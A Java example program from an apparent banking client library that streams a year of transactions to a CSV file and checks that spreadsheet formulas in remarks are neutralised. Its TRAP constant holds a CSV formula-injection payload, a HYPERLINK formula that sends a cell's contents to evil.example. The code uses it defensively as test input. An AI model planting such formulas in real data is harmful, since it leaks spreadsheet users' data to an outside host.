package dev.nakadachi.examples;

import static dev.nakadachi.examples.CsvRows.figure;
import static dev.nakadachi.operation.Capability.ACCOUNTS;
import static dev.nakadachi.operation.Capability.BALANCES;
import static dev.nakadachi.operation.Capability.TRANSACTIONS;

import dev.nakadachi.Connection;
import dev.nakadachi.Nakadachi;
import dev.nakadachi.bank.Account;
import dev.nakadachi.bank.CorporateBank;
import dev.nakadachi.bank.DateRange;
import dev.nakadachi.bank.LineKey;
import dev.nakadachi.bank.Transaction;
import dev.nakadachi.money.Money;
import dev.nakadachi.secret.Keyset;
import dev.nakadachi.token.TokenVault;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Locale;
import java.util.stream.Stream;

/**
 * A customer downloads the transactions of an account as a file for a spreadsheet. The bank's pages stream through: the
 * file may have a million lines and the program never holds more than one page of them.
 *
 * <p>The file holds names and amounts. Give it to the customer, and delete it.
 */
public final class TransactionsToCsv {

    private static final String TRAP = "=HYPERLINK(\"https://evil.example/?\"&B2,\"ｼﾝﾓﾝ\")";

    private TransactionsToCsv() {}

    /**
     * Writes a year of transactions.
     *
     * @param args the file to write; without, it is written and deleted again
     * @throws IOException when the file cannot be written
     */
    public static void main(String[] args) throws IOException {
        run(args, new PrintStream(System.out, true, StandardCharsets.UTF_8));
    }

    static void run(String[] args, PrintStream terminal) throws IOException {
        terminal.println("A customer downloads a year of transactions as a CSV file");
        try (LocalBank bank = LocalBank.start();
                Nakadachi nakadachi =
                        bank.open(TokenVault.encryptedFile(bank.directory().resolve("tokens"), Keyset.generate()))) {
            Connection<CorporateBank> connection = bank.connect(nakadachi);
            CorporateBank client = connection.on(bank.consent(connection, ACCOUNTS, BALANCES, TRANSACTIONS));
            bank.sandbox().bank().accountsOf(BankStep.USER).get(0).deposit(1, TRAP);
            terminal.println(
                    "  Somebody has just sent 1 yen, with a remark that a spreadsheet would run as a formula.");

            Account account = client.accounts().get(0);
            DateRange year = DateRange.daysEndingOn(bank.sandbox().bank().today(), 365);
            Path file = args.length > 0 ? Path.of(args[0]) : bank.directory().resolve("transactions.csv");
            Written written;
            try (Stream<Transaction> lines = client.transactions(account.id(), year)) {
                written = write(lines, file);
            }
            terminal.println(String.format(
                    Locale.ROOT,
                    "  Written: %,d lines and a head, %,d bytes, from %d pages, one page in memory at a time.",
                    written.lines(),
                    Files.size(file),
                    bank.sandbox().counters().to("/accounts/transactions")));
            show(file, terminal);
            Money balance = client.balance(account.id()).amount();
            if (!written.last().equals(balance)) {
                throw new IllegalStateException("the last line does not end with the balance of the account");
            }
            terminal.println(String.format(
                    Locale.ROOT,
                    "CSV OK %,d transactions, %d formula made harmless, the last line ends with the balance of %s",
                    written.lines(),
                    written.disarmed(),
                    Words.money(balance)));
        }
    }

    /** What was written. */
    record Written(long lines, long disarmed, Money last) {}

    /** Under the final name there is never half a file. */
    static Written write(Stream<Transaction> lines, Path file) throws IOException {
        Path part = Files.createTempFile(file.toAbsolutePath().getParent(), "transactions", ".part"); // 0600 on POSIX
        try {
            Written written = write(lines, Files.newOutputStream(part));
            Files.move(part, file, StandardCopyOption.REPLACE_EXISTING);
            return written;
        } finally {
            Files.deleteIfExists(part);
        }
    }

    static Written write(Stream<Transaction> lines, OutputStream file) throws IOException {
        long count = 0;
        Money last = Money.yen(0);
        try (CsvRows rows = new CsvRows(file)) {
            rows.row(Stream.of("date", "direction", "amount", "currency", "change", "balance after", "remarks", "key")
                    .map(rows::text)
                    .toArray(CsvRows.Cell[]::new));
            for (Transaction line : (Iterable<Transaction>) lines::iterator) {
                rows.row(
                        figure(line.date()),
                        rows.text(line.direction().kind().name().toLowerCase(Locale.ROOT)),
                        figure(line.amount().toPlainText()),
                        figure(line.amount().currency()),
                        figure(line.change().map(Money::toPlainText).orElse("")),
                        figure(line.balanceAfter().map(Money::toPlainText).orElse("")),
                        rows.text(line.remarks().orElse("")),
                        rows.text(line.key().map(LineKey::value).orElse("")));
                last = line.balanceAfter().orElse(last);
                count++;
            }
            return new Written(count, rows.disarmed(), last);
        }
    }

    private static void show(Path file, PrintStream terminal) throws IOException {
        try (Stream<String> rows = Files.lines(file)) {
            rows.limit(2).forEach(row -> terminal.println("    " + row.replace("\uFEFF", "")));
        }
        try (Stream<String> rows = Files.lines(file)) {
            terminal.println("    ...");
            rows.reduce((before, row) -> row).ifPresent(row -> terminal.println("    " + row));
        }
    }
}
